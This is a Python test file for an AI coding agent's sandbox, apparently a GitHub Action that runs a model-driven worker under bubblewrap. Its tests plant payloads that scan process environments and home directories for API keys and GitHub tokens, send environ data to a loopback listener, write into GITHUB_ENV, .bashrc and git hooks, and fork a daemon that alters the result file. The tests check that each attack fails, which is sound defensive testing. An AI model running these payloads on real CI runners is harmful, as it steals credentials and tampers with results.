"""Containment (S01-S04, S06, S07): what a worker's commands can reach, attacked for real.

Each test runs ``scripts/action_run.py`` as action.yml does, with a scripted
model that plants a payload in the code the test command runs, and asserts
both that the attack gets nothing and that the honest fix still goes red ->
green inside the boundary.
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fakes.fake_anthropic import FakeAnthropic
from tests.support.sample_repos import calc_repo, make_repo
from tests.support.sandbox_attacks import (
    GITHUB_TOKEN,
    Job,
    assert_honest_fix,
    attack_script,
    command_outputs,
    make_job,
    run_action_work,
)

TASK = {"id": "t1", "worker": "debug", "brief": "add(2, 3) returns -1. Reproduce with"
        " `python run_tests.py`."}  # fmt: skip
XOR = 0x5A  # the payloads scramble what they exfiltrate, so no redaction can mask it


@pytest.fixture
def job(tmp_path: Path) -> Iterator[Job]:
    yield from make_job(tmp_path)


def unscramble(outputs: list[str]) -> str:
    found = bytearray()
    for text in outputs:
        for line in text.splitlines():
            if line.startswith("LEAK:"):
                found += bytes(b ^ XOR for b in bytes.fromhex(line[5:].strip()))
    return found.decode("utf-8", "replace")


def leak_payload(job: Job) -> str:
    """S01: every environ in /proc, its own env, the runner's temp dir and HOME."""
    return f"""
import glob as _g, os as _o
_seen = [repr(dict(_o.environ)).encode()]
for _p in _g.glob('/proc/[0-9]*/environ'):
    try:
        _seen.append(open(_p, 'rb').read())
    except OSError:
        pass
for _d in ({str(job.runner_temp)!r}, {str(job.home)!r}, _o.path.expanduser('~')):
    for _r, _ds, _fs in _o.walk(_d):
        for _f in _fs:
            try:
                _seen.append(open(_o.path.join(_r, _f), 'rb').read())
            except OSError:
                pass
import re as _re
_hits = set(_re.findall(rb'(?:sk-ant-[\\w-]+|ghs_\\w+|actions-runtime-\\w+)', b'\\n'.join(_seen)))
print('SCANNED:', len(_seen))
print('LEAK:' + bytes(b ^ {XOR} for b in b' '.join(sorted(_hits)) + b' ').hex())
"""


def test_S01_no_secret_in_any_environ_or_runner_file(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    calc_repo(job.workspace)
    attack_script(fake_anthropic, leak_payload(job))
    proc = run_action_work(job, fake_anthropic, TASK)
    outputs = command_outputs(fake_anthropic)
    assert any("SCANNED:" in o for o in outputs), outputs  # the payload ran
    leaked = unscramble(outputs)
    assert fake_anthropic.api_key not in leaked
    assert GITHUB_TOKEN not in leaked and GITHUB_TOKEN[4:] not in leaked
    assert leaked.strip() == "", leaked
    assert_honest_fix(job, proc)


class Listener:
    """A loopback server in the test process that records every byte it is sent."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.connections = 0
        self.sock.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.settimeout(2)
                try:
                    while chunk := conn.recv(4096):
                        self.received += chunk
                except OSError:
                    pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def connect_payload(port: int) -> str:
    return f"""
import socket as _s
try:
    _c = _s.create_connection(('127.0.0.1', {port}), timeout=3)
    _pp = '/proc/' + str(__import__('os').getppid()) + '/environ'
    _c.sendall(b'EXFIL ' + open(_pp, 'rb').read())
    _c.close()
    print('CONNECTED')
except OSError as _e:
    print('NO-CONNECT', type(_e).__name__)
"""


def test_S02_no_connection_leaves_the_sandbox_not_even_to_loopback(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    listener = Listener()
    try:
        calc_repo(job.workspace)
        attack_script(fake_anthropic, connect_payload(listener.port))
        proc = run_action_work(job, fake_anthropic, TASK)
    finally:
        listener.close()
    outputs = command_outputs(fake_anthropic)
    assert any("NO-CONNECT" in o for o in outputs), outputs  # the payload ran, and failed
    assert listener.connections == 0 and listener.received == b""
    result = assert_honest_fix(job, proc)
    assert result.sandbox is not None and not result.sandbox.network
    assert "no network" in job.job_file("GITHUB_STEP_SUMMARY").read_text()


def test_S02_network_true_gives_the_network_and_still_hides_every_secret(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    listener = Listener()
    config = (
        "version: 1\ntest:\n  command: python run_tests.py\nworkers:\n  debug:\n    network: true\n"
    )
    try:
        calc_repo(job.workspace, config)
        attack_script(fake_anthropic, connect_payload(listener.port))
        proc = run_action_work(job, fake_anthropic, TASK)
    finally:
        listener.close()
    assert listener.connections >= 1 and listener.received.startswith(b"EXFIL")  # declared
    assert fake_anthropic.api_key.encode() not in listener.received  # S01 still holds
    assert GITHUB_TOKEN.encode() not in listener.received
    assert b"GITHUB_ENV" not in listener.received
    result = assert_honest_fix(job, proc)
    assert result.sandbox is not None and result.sandbox.network
    summary = job.job_file("GITHUB_STEP_SUMMARY").read_text()
    assert "WITH network access" in summary
    assert "::warning" in proc.stdout and "network" in proc.stdout


def write_payload(job: Job, outside: Path) -> str:
    targets = [
        *(str(job.job_file(n)) for n in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH")),
        str(job.job_file("GITHUB_STATE")),
        str(job.job_file("GITHUB_STEP_SUMMARY")),
        str(outside),
        str(job.runner_temp / "evil.sh"),
        str(job.out / "result.json"),
        str(job.home / ".bashrc"),
    ]
    git_config = str(job.workspace / ".git" / "config")
    hook = str(job.workspace / ".git" / "hooks" / "post-checkout")
    return f"""
for _t in {targets!r}:
    try:
        with open(_t, 'a') as _fh:
            _fh.write('PWNED=1\\n')
        print('WROTE', _t)
    except OSError as _e:
        print('DENIED', type(_e).__name__)
try:
    with open({git_config!r}, 'a') as _fh:
        _fh.write('[filter "x"]\\n\\tclean = touch {outside}\\n')
    with open({hook!r}, 'w') as _fh:
        _fh.write('#!/bin/sh\\ntouch {outside}\\n')
    print('WROTE git')
except OSError as _e:
    print('DENIED git', type(_e).__name__)
"""


def test_S03_job_files_and_everything_outside_the_workspace_stay_untouched(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    outside = tmp_path / "outside.txt"
    calc_repo(job.workspace, **{".gitattributes": "*.py filter=x\n"})
    git_config = (job.workspace / ".git" / "config").read_text()
    attack_script(fake_anthropic, write_payload(job, outside))
    proc = run_action_work(job, fake_anthropic, TASK)
    outputs = command_outputs(fake_anthropic)
    assert any("DENIED" in o for o in outputs), outputs  # the payload ran
    # (a write into a hidden dir lands in the sandbox's own tmpfs: gone with it)
    for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STATE"):
        assert "PWNED" not in job.job_file(name).read_text(), name
    assert "PWNED" not in job.job_file("GITHUB_STEP_SUMMARY").read_text()
    assert not outside.exists() and not (job.runner_temp / "evil.sh").exists()
    assert not (job.home / ".bashrc").exists()
    assert (job.workspace / ".git" / "config").read_text() == git_config
    assert "PWNED" not in (job.out / "result.json").read_text()
    assert_honest_fix(job, proc)


def daemon_payload(job: Job, delay: float) -> str:
    marker = str(job.workspace / "daemon-was-here")
    result = str(job.out / "result.json")
    return f"""
import os as _o, time as _t
if _o.fork() == 0:
    _o.setsid()
    if _o.fork() == 0:
        _t.sleep({delay})
        open({marker!r}, 'w').write('alive')
        try:
            _text = open({result!r}).read().replace('"proposed"', '"needs_human"')
            open({result!r}, 'w').write(_text.replace('"Fix:', '"PWNED:'))
        except OSError:
            pass
        _o._exit(0)
    _o._exit(0)
print('FORKED')
"""


def test_S04_a_double_forked_daemon_is_dead_when_its_command_returns(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    delay = 1.5
    calc_repo(job.workspace)
    attack_script(fake_anthropic, daemon_payload(job, delay))
    proc = run_action_work(job, fake_anthropic, TASK)
    assert any("FORKED" in o for o in command_outputs(fake_anthropic))
    time.sleep(delay + 1.5)  # the daemon, had it survived, has written by now
    assert not (job.workspace / "daemon-was-here").exists()
    raw = json.loads((job.out / "result.json").read_text())
    assert raw["verdict"] == "proposed" and not raw["title"].startswith("PWNED")
    result = assert_honest_fix(job, proc)
    assert raw["title"] == result.title


def test_S06_a_hostile_conftest_gets_nothing_while_the_tests_run(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    command = "python -m pytest -q -p no:cacheprovider test_calc.py"
    config = f"version: 1\ntest:\n  command: {command}\n  timeout_seconds: 60\n"
    make_repo(
        job.workspace,
        {
            "calc.py": "def add(a, b):\n    return a - b\n",
            "test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",  # noqa: E501
            ".github/foreman.yml": config,
        },
    )
    outside = tmp_path / "outside.txt"
    listener = Listener()
    report = job.workspace / "attack-report.txt"  # pytest captures a conftest's prints
    payload = "\n".join(
        [
            f"import sys as _sys\n_old = _sys.stdout\n_sys.stdout = open({str(report)!r}, 'a')",
            leak_payload(job),
            connect_payload(listener.port),
            write_payload(job, outside),
            "_sys.stdout.close()\n_sys.stdout = _old",
            daemon_payload(job, 1.5),
        ]
    )
    task = {"id": "t6", "worker": "debug", "brief": f"add(2, 3) is -1: `{command}` fails."}
    try:
        fake_anthropic.script(*fake_anthropic_steps_for(command, payload))
        proc = run_action_work(job, fake_anthropic, task)
        time.sleep(3)
    finally:
        listener.close()
    outputs = [report.read_text()] if report.exists() else []
    assert any("SCANNED:" in o for o in outputs), outputs  # conftest.py ran under pytest
    leaked = unscramble(outputs)
    assert leaked.strip() == "", leaked  # S01
    assert listener.connections == 0 and listener.received == b""  # S02
    assert not outside.exists()  # S03
    assert "PWNED" not in job.job_file("GITHUB_ENV").read_text()
    assert not (job.workspace / "daemon-was-here").exists()  # S04
    assert_honest_fix(job, proc)


def fake_anthropic_steps_for(command: str, payload: str) -> tuple[object, ...]:
    from tests.fakes import anthropic_steps as steps
    from tests.support.sandbox_attacks import APPROVE, FIX

    return (
        steps.tool_use(
            ("write_file", {"path": "conftest.py", "content": payload}),
            ("run_command", {"command": command}),
        ),
        steps.tool_use(FIX),
        steps.text("Fixed add()."),
        APPROVE,
    )


MARKER_TEST = (
    "import pathlib, sys\n"
    "pathlib.Path(__file__).with_name('command-ran').write_text('yes')\n"
    "from calc import add\n"
    "sys.exit(0 if add(2, 3) == 5 else 1)\n"
)


def test_S07_no_bubblewrap_means_needs_human_and_no_command_at_all(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    calc_repo(job.workspace, **{"run_tests.py": MARKER_TEST})
    attack_script(fake_anthropic, "print('payload')")
    proc = run_action_work(job, fake_anthropic, TASK, {"FOREMAN_BWRAP": "/nonexistent/bwrap"})
    assert proc.returncode == 0, proc.stdout + proc.stderr
    result, patch = job.result()
    assert result.verdict == "needs_human" and patch == ""
    assert "FOREMAN_BWRAP=/nonexistent/bwrap" in result.reason and "No command" in result.reason
    assert result.sandbox is not None and result.sandbox.mode == "unavailable"
    assert not (job.workspace / "command-ran").exists()  # not even the reproduction
    assert fake_anthropic.message_requests == []
    assert "process boundary was unavailable" in job.job_file("GITHUB_STEP_SUMMARY").read_text()


def test_S07_bwrap_missing_from_path_is_named(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    calc_repo(job.workspace, **{"run_tests.py": MARKER_TEST})
    bare = tmp_path / "bin"
    bare.mkdir()
    for tool in ("git", "python"):
        import shutil

        found = shutil.which(tool)
        assert found
        (bare / tool).symlink_to(found)
    proc = run_action_work(job, fake_anthropic, TASK, {"PATH": str(bare)})
    assert proc.returncode == 0, proc.stdout + proc.stderr
    result, _ = job.result()
    assert (
        result.verdict == "needs_human" and "bubblewrap (bwrap) is not installed" in result.reason
    )
    assert not (job.workspace / "command-ran").exists()


def test_S07_the_explicit_opt_out_runs_unboxed_and_says_so_everywhere(
    tmp_path: Path, job: Job, fake_anthropic: FakeAnthropic
) -> None:
    config = (
        "version: 1\ntest:\n  command: python run_tests.py\nworkers:\n  debug:\n    sandbox: off\n"
    )
    calc_repo(job.workspace, config)
    attack_script(fake_anthropic, "print('unboxed')")
    proc = run_action_work(job, fake_anthropic, TASK, {"FOREMAN_BWRAP": "/nonexistent/bwrap"})
    assert proc.returncode == 0, proc.stdout + proc.stderr
    result, patch = job.result()
    assert result.verdict == "proposed" and "+    return a + b" in patch
    assert result.sandbox is not None and result.sandbox.mode == "off"
    assert "::warning" in proc.stdout and "WITHOUT the process boundary" in proc.stdout
    assert "WITHOUT the process boundary" in job.job_file("GITHUB_STEP_SUMMARY").read_text()

    from foreman.gate.model import GateOutcome
    from foreman.gate.status import render

    outcome = GateOutcome(result.task_id, result.worker, 1, "pull-request", sandbox=result.sandbox)
    assert "WITHOUT the process boundary" in render([outcome], [], [], [])
    boxed = GateOutcome("t2", "debug", 1, "pull-request", sandbox=result.sandbox.model_copy(
        update={"mode": "bwrap", "network": False}))  # fmt: skip
    assert "WARNING" not in render([boxed], [], [], [])


def test_S01_work_drops_the_github_token_before_the_worker_starts(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import importlib
    import os
    import sys

    from tests.support.sandbox_attacks import ROOT

    monkeypatch.syspath_prepend(str(ROOT / "scripts"))
    action_run = importlib.import_module("action_run")
    monkeypatch.setenv("FOREMAN_GITHUB_TOKEN", GITHUB_TOKEN)
    monkeypatch.setenv("GITHUB_TOKEN", GITHUB_TOKEN + "2")
    monkeypatch.setenv("FOREMAN_ANTHROPIC_API_KEY", "sk-ant-api03-" + "k" * 30)
    masked = action_run._export_secrets("work")
    assert GITHUB_TOKEN in masked and GITHUB_TOKEN + "2" in masked  # still masked in logs
    assert "GITHUB_TOKEN" not in os.environ and "FOREMAN_GITHUB_TOKEN" not in os.environ
    assert os.environ["ANTHROPIC_API_KEY"].startswith("sk-ant-api03-")  # the agent keeps it
    assert "action_run" in sys.modules


@pytest.mark.parametrize(
    ("mode", "network", "shown"),
    [("off", True, "WITHOUT the process boundary"), ("bwrap", True, "WITH network access")],
)
def test_S07_the_gate_warns_in_its_comment_and_summary_when_a_bundle_ran_unboxed(
    fake_github: object,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    mode: str,
    network: bool,
    shown: str,
) -> None:
    from foreman.contracts import SandboxInfo
    from tests.support.gate import PASSING, REPO, Gate, item, result, task

    gate = Gate(fake_github, tmp_path, monkeypatch)  # type: ignore[arg-type]
    gate.checkout()
    n = gate.fake.add_issue(REPO, "add() subtracts")
    t = task("debug", item(n))
    off = SandboxInfo(mode=mode, network=network, detail="as configured")  # type: ignore[arg-type]
    change = gate.patch({"src/app.py": "def add(a, b):\n    return a + b\n"})
    gate.add(t, result(t, tests=PASSING, sandbox=off), change)
    assert gate.run() == 0
    [comment] = gate.bodies(n)
    for text in (comment, gate.summary()):
        assert shown in text, text
        assert f"`{t.id}`" in text
